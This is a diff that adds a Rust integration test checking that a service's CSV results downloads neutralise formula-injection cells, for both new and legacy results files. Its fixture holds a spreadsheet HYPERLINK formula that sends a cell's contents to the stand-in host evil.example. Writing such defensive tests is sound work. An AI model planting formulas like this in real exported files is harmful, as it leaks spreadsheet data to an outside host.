@@ -133,3 +133,72 @@ async fn login_redirects_only_to_paths_on_this_server() {
         .unwrap();
     assert_eq!(response.headers()["location"], "/runs?source=crm");
 }
+
+/// Item 4: the results download never hands a spreadsheet a formula: a key such as
+/// `=HYPERLINK(...)` comes back as `'=HYPERLINK(...)`, in files this version writes and in
+/// results files an older version left in the data dir.
+#[tokio::test]
+async fn results_downloads_neutralise_cells_that_start_a_formula() {
+    let sandbox = crate::common::sandbox().await;
+    let s = TestServer::start().await;
+    s.create_credential("Sandbox", &sandbox.token(), &sandbox.base_url())
+        .await;
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"open")"#;
+    let csv = format!(
+        "externalId,email\n\"{}\",a@example.test\n",
+        formula.replace('"', "\"\"")
+    );
+    let uploaded: serde_json::Value = s
+        .post("/api/v1/destinations/uploads")
+        .header("content-type", "text/csv")
+        .body(csv)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let report: serde_json::Value = s
+        .post("/api/v1/destinations/push")
+        .json(
+            &serde_json::json!({"credential": "Sandbox", "object": "contacts",
+            "key": "externalId", "upload": uploaded["upload"], "dry_run": true}),
+        )
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let download = s
+        .get(report["results_url"].as_str().unwrap())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(download.status(), 200);
+    let text = download.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[1], format!("'{formula}"), "{text}");
+
+    // A results file written before this fix holds the formula raw.
+    let old_run = "run_20240101T000000_0000abcd";
+    let dir = s.store.data_dir().join("results");
+    std::fs::write(
+        dir.join(format!("{old_run}.csv")),
+        "row,key,outcome,drift_id,reason,input\n1,=1+2,rejected,,@bad,{}\n2,ok,created,-5,fine,{}\n",
+    )
+    .unwrap();
+    let text = s
+        .get(&format!("/api/v1/runs/{old_run}/results"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(
+        text,
+        "row,key,outcome,drift_id,reason,input\n1,'=1+2,rejected,,'@bad,{}\n2,ok,created,'-5,fine,{}\n"
+    );
+}
